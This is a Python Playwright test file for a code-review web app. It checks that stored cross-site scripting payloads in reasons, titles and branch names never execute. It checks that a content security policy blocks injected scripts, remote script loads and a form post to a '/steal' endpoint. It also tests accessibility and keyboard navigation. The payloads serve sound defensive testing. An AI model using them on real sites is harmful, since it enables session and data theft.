"""Every page in a real browser: nothing of a change runs there, and everybody can read and reach it."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest

from tests.browser.place import EVIL, EVIL_BRANCH, EVIL_PATH, until
from tests.browser.visits import sign_in, watched

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from tests.browser.place import Place

Opens = Callable[..., "Page"]
PAGES = (
    "/", "/queue", "/queue?provenance=ai-declared", "/r/octo/shop", "/r/octo/shop/1", "/r/octo/shop/3",
    "/r/octo/shop/simulate", "/policies", "/deliveries", "/lab", "/nowhere",
)  # fmt: skip


def every(page: Page, place: Place) -> list[str]:
    """Return every page, with those that the pages link to."""
    page.goto(place.page("/policies"))
    linked = page.eval_on_selector_all("main a[href^='/policies/']", "links => links.map(a => a.getAttribute('href'))")
    return [*PAGES, *linked[:2]]


def test_nothing_of_a_hostile_change_runs(place: Place, open_page: Opens) -> None:
    page = open_page()
    seen = watched(page)
    sign_in(page, place, "mira", "/r/octo/shop/3")
    assert EVIL_PATH in page.inner_text("main") and "no_such_module_or_script" in page.inner_text("main")
    page.check("#say-provenance input[value=ai]")
    evil = "<script>window.hacked='reason'</script><img src=x onerror=window.hacked=3>"
    page.fill("#say-provenance [name=reason]", evil)
    page.click("#say-provenance button[type=submit]")
    until(
        lambda: any(row.reason == evil for row in place.ledger.overrides(place.shop.id, 3)),
        "the word in the ledger",
        place.process,
    )
    for path in every(page, place):
        page.goto(place.page(path))
        for details in page.query_selector_all("details"):
            details.evaluate("element => { element.open = true }")
        assert page.evaluate("window.hacked") is None, path
        assert not page.query_selector("main script, main img, main iframe, main object"), path
    page.goto(place.page("/r/octo/shop/3"))
    assert evil in page.inner_text("main")
    assert "\u202e" not in page.inner_text("main")  # it would turn what follows around
    assert [one for one in seen if "404" not in one] == []


def test_the_policy_stops_what_would_get_in(place: Place, open_page: Opens) -> None:
    """As if a page had a hole after all."""
    page = open_page()
    sign_in(page, place, "mira")
    page.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.hacked = 1';
            document.body.append(script);
            document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.hacked = 2">');
            const far = document.createElement('script');
            far.src = 'http://127.0.0.1:9/x.js';
            document.body.append(far);
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'stopped')") == "stopped"
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    page.evaluate(
        """() => {
            const form = document.createElement('form');
            form.action = 'http://127.0.0.1:9/steal'; form.method = 'post';
            document.body.append(form); form.submit();
        }"""
    )
    page.wait_for_timeout(300)
    assert not any("steal" in url for url in sent)
    cookies = {cookie["name"]: cookie for cookie in page.context.cookies(place.url)}
    assert page.evaluate("document.cookie") == "" and all(cookie["httpOnly"] for cookie in cookies.values())


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [375, 1280])
def test_everybody_can_read_every_page(place: Place, open_page: Opens, axe: str, scheme: str, width: int) -> None:
    page = open_page(color_scheme=scheme, viewport={"width": width, "height": 800})
    page.goto(place.page("/signin"))
    found = _complaints(page, axe, "/signin")
    sign_in(page, place, "mira")
    for path in every(page, place):
        page.goto(place.page(path))
        found += _complaints(page, axe, path)
        wide = page.evaluate("document.documentElement.scrollWidth")
        if wide > width:
            found.append(f"{path} is {wide} pixels wide")
    assert found == []


def _complaints(page: Page, axe: str, path: str) -> list[str]:
    page.evaluate(axe)
    told = page.evaluate("axe.run(document, {resultTypes: ['violations']}).then(r => r.violations)")
    grave = [one for one in told if one["impact"] in ("serious", "critical")]
    return [f"{path}: {one['id']}: {json.dumps([node['target'] for node in one['nodes']][:3])}" for one in grave]


def test_what_looks_for_faults_finds_them(open_page: Opens, axe: str) -> None:
    """Otherwise pages without a complaint would say nothing."""
    page = open_page()
    seen = watched(page)
    page.set_content(f"<html><img src=x><button></button>{EVIL.format('here')}<script>console.error('x')</script>")
    assert page.evaluate("window.hacked") == "here"
    assert len(_complaints(page, axe, "")) >= 3
    assert any("x" in one for one in seen)


class TestByKeyboard:
    def test_the_first_key_leads_past_the_menu(self, place: Place, open_page: Opens) -> None:
        page = open_page()
        sign_in(page, place, "mira", "/queue")
        page.goto(place.page("/queue"))
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent").startswith("Skip")
        page.keyboard.press("Enter")
        assert page.evaluate("location.hash") == "#content"

    def test_everything_that_can_be_clicked_is_reached_and_seen(self, place: Place, open_page: Opens) -> None:
        page = open_page()
        sign_in(page, place, "mira")
        for path in ("/", "/queue", "/r/octo/shop/1"):
            page.goto(place.page(path))
            count = page.evaluate(
                """() => [...document.querySelectorAll('a[href], button, summary, select, textarea, input')]
                    .filter(e => e.type !== 'hidden' && e.offsetParent !== null).length"""
            )
            reached = set()
            for _ in range(count + 30):
                page.keyboard.press("Tab")
                told = page.evaluate(
                    """() => {
                        const e = document.activeElement, s = getComputedStyle(e);
                        const all = [...document.querySelectorAll('*')];
                        return [all.indexOf(e), e.tagName, s.outlineStyle !== 'none' || s.boxShadow !== 'none'];
                    }"""
                )
                if told[1] in ("BODY", "HTML"):
                    break
                reached.add(told[0])
                assert told[2], f"{path}: where the keyboard is cannot be seen on {told[1]}"
            radios = page.evaluate("document.querySelectorAll('input[type=radio]').length")
            assert len(reached) >= count - radios, path  # the arrows reach the others of a group

    def test_a_word_is_said_without_a_mouse(self, place: Place, open_page: Opens) -> None:
        page = open_page()
        sign_in(page, place, "mira", "/r/octo/shop/1")
        page.focus("#say-provenance input[value=ai]")
        page.keyboard.press("Space")
        page.keyboard.press("Tab")
        page.keyboard.type("by keyboard")
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")
        until(
            lambda: any(row.reason == "by keyboard" for row in place.ledger.overrides(place.shop.id, 1)),
            "the word in the ledger",
            place.process,
        )


def test_the_title_is_text(place: Place, open_page: Opens) -> None:
    page = open_page()
    seen = watched(page)
    sign_in(page, place, "ravi", "/r/octo/shop/1")
    for path in ("/r/octo/shop/1", "/queue", "/r/octo/shop"):
        page.goto(place.page(path))
        assert EVIL.format("title") in page.inner_text("main"), path
        assert page.evaluate("window.hacked") is None
    page.goto(place.page("/r/octo/shop/1"))
    assert EVIL.format("title")[:20] in page.title()
    assert seen == []


def test_the_branchs_name_is_text(place: Place, open_page: Opens) -> None:
    page = open_page()
    sign_in(page, place, "ravi", "/r/octo/shop/3")
    assert page.evaluate("window.hacked") is None
    assert EVIL_BRANCH in page.inner_text("main")
    page.goto(place.page("/queue"))
    assert EVIL_BRANCH in page.inner_text("main")
